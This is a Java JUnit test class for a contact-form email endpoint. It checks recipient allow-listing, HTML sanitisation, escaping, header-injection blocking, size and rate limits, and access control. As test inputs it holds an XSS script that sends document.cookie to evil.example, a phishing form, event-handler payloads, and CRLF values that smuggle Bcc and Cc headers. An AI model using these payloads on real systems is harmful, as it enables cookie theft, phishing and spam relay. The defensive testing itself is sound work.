package io.vivreal.app.clientapi;

import static org.assertj.core.api.Assertions.assertThat;

import io.vivreal.app.admin.AdminCliAccess;
import io.vivreal.app.media.MediaFiles;
import io.vivreal.app.media.MediaTestSupport;
import io.vivreal.app.support.Fixtures;
import io.vivreal.app.support.Http;
import io.vivreal.app.support.Outbox;
import io.vivreal.clientapi.mail.ContactMails;
import io.vivreal.core.group.Tier;
import io.vivreal.core.group.TierLimits;
import io.vivreal.core.ratelimit.RateLimiter;
import jakarta.mail.Message;
import jakarta.mail.Session;
import jakarta.mail.internet.MimeMessage;
import java.io.IOException;
import java.io.InputStream;
import java.io.UncheckedIOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Properties;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import java.util.stream.Stream;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;

/**
 * {@code POST /tenant/sendContactEmail} and {@code /api/groups/{id}/contact-addresses}: mail goes
 * only to a configured contact address, with the site's HTML sanitised and a text part, limited
 * per client address and per group; never an open relay, never a header a visitor wrote.
 */
class ContactMailTests extends MediaTestSupport {

    private static final AtomicInteger SEQUENCE = new AtomicInteger();
    private static final String SENT = "{\"success\":true,\"data\":null,\"error\":null}";

    @Autowired
    RateLimiter limiter;

    private Fixtures.User owner;
    private String group;
    private String key;
    private String contact;

    @BeforeEach
    void groupWithAContactAddress() {
        owner = fixtures.user();
        group = fixtures.group(owner);
        key = fixtures.apiKey(owner, group);
        contact = address("team");
        Http.Response set = setAddresses(owner, group, List.of(contact));
        assertThat(set.status()).as(set.body()).isEqualTo(200);
    }

    private static String address(String who) {
        return who + "-" + SEQUENCE.incrementAndGet() + "-" + System.nanoTime() + "@example.com";
    }

    private Http.Response setAddresses(Fixtures.User user, String groupId, Object addresses) {
        return http.put("/api/groups/" + groupId + "/contact-addresses", Map.of("addresses", addresses), user.auth());
    }

    private Http.Response send(String apiKey, Map<String, Object> body) {
        return http.post("/tenant/sendContactEmail", body, "Authorization", apiKey);
    }

    private Http.Response send(Map<String, Object> body) {
        return send(key, body);
    }

    private static Map<String, Object> form(String to, String message) {
        Map<String, Object> body = new LinkedHashMap<>();
        body.put("name", "Ann Visitor");
        body.put("to", to);
        body.put("message", message);
        body.put("siteName", "Jazz Club");
        return body;
    }

    private Outbox outbox() {
        return fixtures.outbox();
    }

    /**
     * Proves nothing reached the outbox for {@code address} since {@code before}: a legitimate mail
     * sent afterwards arrives through the same single mail thread, so an earlier one would be there.
     */
    private void assertNothingSentTo(String address, long before) {
        String marker = "after-" + System.nanoTime();
        assertThat(send(form(contact, marker)).status()).isEqualTo(200);
        outbox().await(contact, mail -> mail.text().contains(marker));
        assertThat(outbox().countTo(address)).isEqualTo(before);
    }

    @Test
    void aContactFormMailReachesTheConfiguredAddressWithBothParts() {
        Http.Response response =
                send(form(contact.toUpperCase(java.util.Locale.ROOT), "Do you play on Sundays?\nThanks"));

        assertThat(response.status()).as(response.body()).isEqualTo(200);
        assertThat(response.body()).isEqualTo(SENT);
        Outbox.Mail mail = outbox().await(contact, m -> m.text().contains("Do you play on Sundays?"));
        assertThat(mail.subject()).isEqualTo("Contact form: Jazz Club (from Ann Visitor)");
        assertThat(mail.from()).doesNotContain("Ann");
        assertThat(mail.text()).contains("Name: Ann Visitor", "Do you play on Sundays?\nThanks");
        assertThat(mail.html()).contains("Do you play on Sundays?<br>Thanks", "Jazz Club");
    }

    @Test
    void fieldsAreEscapedInTheBuiltHtml() {
        Map<String, Object> body = form(contact, "<script>alert(1)</script> & <b>bold</b>");
        body.put("name", "<img src=x onerror=alert(1)>");

        assertThat(send(body).status()).isEqualTo(200);

        Outbox.Mail mail = outbox().await(contact, m -> m.text().contains("alert(1)</script>"));
        assertThat(mail.html())
                .contains("&lt;script&gt;alert(1)&lt;/script&gt; &amp; &lt;b&gt;bold&lt;/b&gt;")
                .doesNotContain("<script", "<img", "<b>");
    }

    @Test
    void customHtmlArrivesWithoutScriptsHandlersFormsFramesOrForeignImages() {
        String logoKey = uploaded(owner, group, "logo.png", "image/png", MediaFiles.image("png"));
        String logo = signedUrl(owner, group, logoKey);
        Fixtures.User stranger = fixtures.user();
        String strangers = fixtures.group(stranger);
        String theirKey = uploaded(stranger, strangers, "their.png", "image/png", MediaFiles.image("png"));
        String theirs = signedUrl(stranger, strangers, theirKey);
        String marker = "order-" + System.nanoTime();
        String html = "<div style=\"color: #333; background: url(https://tracker.example/bg.png)\">"
                + "<img src=\"" + logo.replace("&", "&amp;") + "\" alt=\"Jazz Club\">"
                + "<h1 onclick=\"steal()\">New message " + marker + "</h1>"
                + "<script>document.location='https://evil.example/?c='+document.cookie</script>"
                + "<img src=\"https://tracker.example/pixel.gif\" alt=\"pixel\">"
                + "<img src=\"" + theirs.replace("&", "&amp;") + "\">"
                + "<img src=x onerror=\"alert(1)\">"
                + "<iframe src=\"https://evil.example/\"></iframe>"
                + "<form action=\"https://evil.example/phish\"><input name=\"password\"><button>Log in</button></form>"
                + "<style>body{background:url(https://tracker.example/s.png)}</style>"
                + "<p>Reply to <a href=\"mailto:ann@example.com\">ann@example.com</a> or "
                + "<a href=\"javascript:alert(1)\">click</a> or <a href=\"https://jazz.example/contact\">our site</a></p>"
                + "<svg><script>alert(2)</script></svg><object data=\"https://evil.example/x.swf\"></object>"
                + "</div>";
        Map<String, Object> body = form(contact, "plain " + marker);
        body.put("customHtml", html);

        Http.Response response = send(body);

        assertThat(response.status()).as(response.body()).isEqualTo(200);
        Outbox.Mail mail = outbox().await(contact, m -> m.html().contains(marker));
        String sent = decoded(mail.html());
        assertThat(sent)
                .doesNotContainIgnoringCase("<script")
                .doesNotContainIgnoringCase("onclick")
                .doesNotContainIgnoringCase("onerror")
                .doesNotContainIgnoringCase("<iframe")
                .doesNotContainIgnoringCase("<form")
                .doesNotContainIgnoringCase("<input")
                .doesNotContainIgnoringCase("<style")
                .doesNotContainIgnoringCase("<svg")
                .doesNotContainIgnoringCase("<object")
                .doesNotContainIgnoringCase("javascript:")
                .doesNotContain("tracker.example", "evil.example", theirKey, "document.cookie");
        assertThat(imageSources(sent)).containsExactly(logo);
        assertThat(sent).contains("color:#333", "href=\"mailto:ann@example.com\"", "https://jazz.example/contact");
        assertThat(mail.text())
                .contains("New message " + marker, "our site (https://jazz.example/contact)")
                .doesNotContain("document.cookie", "alert(");
        // the kept image really is the group's own file
        assertThat(download(relative(logo)).status()).isEqualTo(200);
    }

    @Test
    void anotherRecipientOrNoneConfiguredIsA400AndNothingIsSent() {
        String outsider = address("outsider");

        Http.Response relay = send(form(outsider, "buy cheap watches"));
        Http.Response lookalike = send(form(contact + ".evil.example", "hi"));
        Http.Response list = send(form(contact + ", " + outsider, "hi"));

        for (Http.Response refused : List.of(relay, lookalike, list)) {
            assertThat(refused.status()).isEqualTo(400);
            assertThat(refused.json().get("success").asBoolean()).isFalse();
            assertThat(refused.json().get("data").isNull()).isTrue();
            assertThat(refused.json().get("error").asString()).startsWith("to");
        }
        Fixtures.User other = fixtures.user();
        String unconfigured = fixtures.group(other);
        Http.Response none = send(fixtures.apiKey(other, unconfigured), form(contact, "hi"));
        assertThat(none.status()).isEqualTo(400);
        assertThat(none.json().get("error").asString()).startsWith("to");
        assertThat(relay.body()).isEqualTo(none.body());
        assertNothingSentTo(outsider, 0);
        assertThat(outbox().countTo(contact + ".evil.example")).isZero();
    }

    @Test
    void lineBreaksInNameOrSiteNameNeverReachAHeader() throws Exception {
        String hidden = address("hidden");
        String marker = "inject-" + System.nanoTime();
        Map<String, Object> body = form(contact, marker);
        body.put("name", "Ann\r\nBcc: " + hidden + "\r\nX-Injected: yes");
        body.put("siteName", "Jazz\nCc: " + hidden);

        Http.Response response = send(body);

        assertThat(response.status()).as(response.body()).isEqualTo(200);
        Outbox.Mail mail = outbox().await(contact, m -> m.text().contains(marker));
        assertThat(mail.subject()).doesNotContain("\r", "\n");
        MimeMessage raw = raw(marker);
        assertThat(raw.getRecipients(Message.RecipientType.BCC)).isNull();
        assertThat(raw.getRecipients(Message.RecipientType.CC)).isNull();
        assertThat(raw.getAllRecipients()).hasSize(1);
        assertThat(raw.getHeader("X-Injected")).isNull();
        assertThat(outbox().countTo(hidden)).isZero();
    }

    @Test
    void oversizeOrMalformedFormsAreClear4xxAndNothingIsSent() {
        long before = outbox().countTo(contact);

        Http.Response lines = send(form(contact, "spam\n".repeat(100_000)));
        assertThat(lines.status()).isEqualTo(400);
        assertThat(lines.json().get("error").asString()).startsWith("message");

        Map<String, Object> longName = form(contact, "hi");
        longName.put("name", "n".repeat(201));
        assertThat(send(longName).json().get("error").asString()).startsWith("name");

        Map<String, Object> longSite = form(contact, "hi");
        longSite.put("siteName", "s".repeat(201));
        assertThat(send(longSite).status()).isEqualTo(400);

        Map<String, Object> bigHtml = form(contact, "hi");
        bigHtml.put("customHtml", "<p>" + "x".repeat(100 * 1024) + "</p>");
        Http.Response tooLarge = send(bigHtml);
        assertThat(tooLarge.status()).isEqualTo(413);
        assertThat(tooLarge.json().get("success").asBoolean()).isFalse();

        Map<String, Object> extra = form(contact, "hi");
        extra.put("bcc", address("hidden"));
        Http.Response unknown = send(extra);
        assertThat(unknown.status()).isEqualTo(400);
        assertThat(unknown.json().get("error").asString()).startsWith("bcc");

        Map<String, Object> typed = form(contact, "hi");
        typed.put("to", List.of(contact));
        assertThat(send(typed).json().get("error").asString()).startsWith("to");

        Map<String, Object> empty = form(contact, "  ");
        assertThat(send(empty).json().get("error").asString()).startsWith("message");

        assertThat(send("{\"to\":").status()).isEqualTo(400);
        assertThat(http.post(
                                "/tenant/sendContactEmail",
                                "to=" + contact,
                                "Authorization",
                                key,
                                "Content-Type",
                                "application/x-www-form-urlencoded")
                        .status())
                .isEqualTo(415);
        String marker = "after-" + System.nanoTime();
        assertThat(send(form(contact, marker)).status()).isEqualTo(200);
        outbox().await(contact, mail -> mail.text().contains(marker));
        assertThat(outbox().countTo(contact))
                .as("only the last, valid form was sent")
                .isEqualTo(before + 1);
    }

    private Http.Response send(String raw) {
        return http.post("/tenant/sendContactEmail", raw, "Authorization", key);
    }

    @Test
    void withoutAValidKeyNothingIsSent() {
        Http.Response response = http.post("/tenant/sendContactEmail", form(contact, "hi"));
        assertThat(response.status()).isIn(401, 403);
        Http.Response forged =
                http.post("/tenant/sendContactEmail", form(contact, "hi"), "Authorization", "vr_" + "C".repeat(49));
        assertThat(forged.status()).isIn(401, 403);
        String marker = "after-" + System.nanoTime();
        assertThat(send(form(contact, marker)).status()).isEqualTo(200);
        outbox().await(contact, mail -> mail.text().contains(marker));
        assertThat(outbox().countTo(contact)).isEqualTo(1);
    }

    @Test
    void mailsAreLimitedPerClientAddressPerGroup() {
        int sent = 0;
        Http.Response last = null;
        for (int i = 0; i < 6; i++) {
            last = send(form(contact, "note " + i));
            if (last.status() == 200) {
                sent++;
            }
        }

        assertThat(sent).isEqualTo(5);
        assertThat(last.status()).isEqualTo(429);
        assertThat(last.header("Retry-After")).matches("[1-9]\\d*");
        assertThat(last.json().get("error").asString()).isEqualTo("TooManyRequests");
        assertThat(last.json().get("data").isNull()).isTrue();
        Http.Response spoofed = http.post(
                "/tenant/sendContactEmail",
                form(contact, "spoofed"),
                "Authorization",
                key,
                "X-Forwarded-For",
                "203.0.113.9");
        assertThat(spoofed.status())
                .as("a forged X-Forwarded-For does not reset the count")
                .isEqualTo(429);

        // another group's form, from the same visitor, still works
        Fixtures.User other = fixtures.user();
        String otherGroup = fixtures.group(other);
        String otherContact = address("other");
        assertThat(setAddresses(other, otherGroup, List.of(otherContact)).status())
                .isEqualTo(200);
        assertThat(send(fixtures.apiKey(other, otherGroup), form(otherContact, "hello"))
                        .status())
                .isEqualTo(200);
        outbox().await(otherContact, m -> m.text().contains("hello"));
        outbox().await(contact, m -> m.text().contains("note 4"));
        assertThat(outbox().countTo(contact)).isEqualTo(5);
    }

    @Test
    void aGroupThatUsedItsDailyMailsLeavesOtherGroupsWorking() {
        long perDay = TierLimits.of(Tier.FREE).contactMailsPerDay();
        // the day's count lives in the store, shared by every instance: spend it as other visitors did
        for (long i = 0; i < perDay; i++) {
            assertThat(limiter.attempt(ContactMails.dayBucket(group), perDay, Duration.ofDays(1))
                            .allowed())
                    .isTrue();
        }

        Http.Response refused = send(form(contact, "one too many"));

        assertThat(refused.status()).isEqualTo(429);
        assertThat(refused.json().get("error").asString()).isEqualTo("TooManyRequests");
        assertThat(Long.parseLong(refused.header("Retry-After"))).isBetween(1L, 86_400L);
        Fixtures.User other = fixtures.user();
        String otherGroup = fixtures.group(other);
        String otherContact = address("other");
        assertThat(setAddresses(other, otherGroup, List.of(otherContact)).status())
                .isEqualTo(200);
        assertThat(send(fixtures.apiKey(other, otherGroup), form(otherContact, "still open"))
                        .status())
                .isEqualTo(200);
        outbox().await(otherContact, m -> m.text().contains("still open"));
        assertThat(outbox().countTo(contact)).isZero();
    }

    @Test
    void contactAddressesAreCheckedBoundedAndAudited() {
        String second = address("second");
        Http.Response set = setAddresses(
                owner, group, List.of(contact, " " + second + " ", contact.toUpperCase(java.util.Locale.ROOT)));

        assertThat(set.status()).as(set.body()).isEqualTo(200);
        assertThat(set.json().get("addresses").toString()).isEqualTo("[\"" + contact + "\",\"" + second + "\"]");
        Http.Response read = http.get("/api/groups/" + group + "/contact-addresses", owner.auth());
        assertThat(read.json().get("addresses").size()).isEqualTo(2);
        assertThat(http.get("/api/groups/" + group + "/audit", owner.auth()).body())
                .contains("contact_addresses.updated");

        Http.Response bad = setAddresses(owner, group, List.of(contact, "Eve <eve@example.com>"));
        assertThat(bad.status()).isEqualTo(400);
        assertThat(bad.body()).contains("addresses[1]");
        assertThat(setAddresses(owner, group, List.of("a@example.com\r\nBcc: eve@example.com"))
                        .status())
                .isEqualTo(400);
        assertThat(setAddresses(owner, group, "team@example.com").status()).isEqualTo(400);
        List<String> eleven = new ArrayList<>();
        for (int i = 0; i < 11; i++) {
            eleven.add("team" + i + "@example.com");
        }
        assertThat(setAddresses(owner, group, eleven).status()).isEqualTo(400);
        assertThat(http.put(
                                "/api/groups/" + group + "/contact-addresses",
                                Map.of("addresses", List.of(contact), "groupID", "x"),
                                owner.auth())
                        .status())
                .isEqualTo(400);
        assertThat(http.get("/api/groups/" + group + "/contact-addresses", owner.auth())
                        .json()
                        .get("addresses")
                        .size())
                .as("refused lists change nothing")
                .isEqualTo(2);

        // an emptied list closes the form
        assertThat(setAddresses(owner, group, List.of()).status()).isEqualTo(200);
        assertThat(send(form(contact, "closed")).status()).isEqualTo(400);
    }

    @Test
    void onlyOwnersAndAdminsSeeOrSetContactAddresses() {
        Fixtures.User admin = fixtures.user();
        Fixtures.User editor = fixtures.user();
        Fixtures.User viewer = fixtures.user();
        assertThat(AdminCliAccess.run(DATA_DIR, "set-tier", group, "basic"))
                .as("room for four members")
                .isZero();
        fixtures.addMember(owner, group, admin, "admin");
        fixtures.addMember(owner, group, editor, "editor");
        fixtures.addMember(owner, group, viewer, "viewer");
        String path = "/api/groups/" + group + "/contact-addresses";

        assertThat(setAddresses(admin, group, List.of(contact)).status()).isEqualTo(200);
        assertThat(http.get(path, admin.auth()).status()).isEqualTo(200);
        for (Fixtures.User member : List.of(editor, viewer)) {
            assertThat(setAddresses(member, group, List.of(address("mine"))).status())
                    .isEqualTo(403);
            assertThat(http.get(path, member.auth()).status()).isEqualTo(403);
        }
        Fixtures.User stranger = fixtures.user();
        String strangers = fixtures.group(stranger);
        assertThat(setAddresses(owner, strangers, List.of(address("mine"))).status())
                .isEqualTo(404);
        assertThat(http.get("/api/groups/" + strangers + "/contact-addresses", owner.auth())
                        .status())
                .isEqualTo(404);
        assertThat(http.get("/api/groups/" + strangers + "/contact-addresses", stranger.auth())
                        .json()
                        .get("addresses")
                        .size())
                .isZero();
        assertThat(http.get(path, owner.auth()).json().get("addresses").toString())
                .isEqualTo("[\"" + contact + "\"]");
    }

    /** The src of every image in sanitised HTML, entities decoded. */
    private static List<String> imageSources(String html) {
        Matcher matcher = Pattern.compile("<img[^>]*\\ssrc=\"([^\"]*)\"").matcher(html);
        List<String> sources = new ArrayList<>();
        while (matcher.find()) {
            sources.add(matcher.group(1));
        }
        assertThat(sources.size()).as("every <img> has a src").isEqualTo(html.split("<img", -1).length - 1);
        return sources;
    }

    /** Numeric and the usual named entities decoded, as a mail client reads attribute values. */
    private static String decoded(String html) {
        Matcher matcher = Pattern.compile("&#(\\d+);").matcher(html);
        StringBuilder out = new StringBuilder();
        while (matcher.find()) {
            matcher.appendReplacement(
                    out, Matcher.quoteReplacement(String.valueOf((char) Integer.parseInt(matcher.group(1)))));
        }
        matcher.appendTail(out);
        return out.toString().replace("&amp;", "&");
    }

    /** The raw message in the outbox whose body carries {@code marker}. */
    private static MimeMessage raw(String marker) throws IOException {
        Path directory = DATA_DIR.resolve("mail");
        try (Stream<Path> files = Files.list(directory)) {
            for (Path file : files.filter(f -> f.toString().endsWith(".eml")).toList()) {
                if (Files.readString(file, java.nio.charset.StandardCharsets.ISO_8859_1)
                        .contains(marker)) {
                    try (InputStream in = Files.newInputStream(file)) {
                        return new MimeMessage(Session.getInstance(new Properties()), in);
                    } catch (jakarta.mail.MessagingException e) {
                        throw new IllegalStateException(e);
                    }
                }
            }
        } catch (UncheckedIOException e) {
            throw e.getCause();
        }
        throw new AssertionError("no mail with " + marker);
    }
}
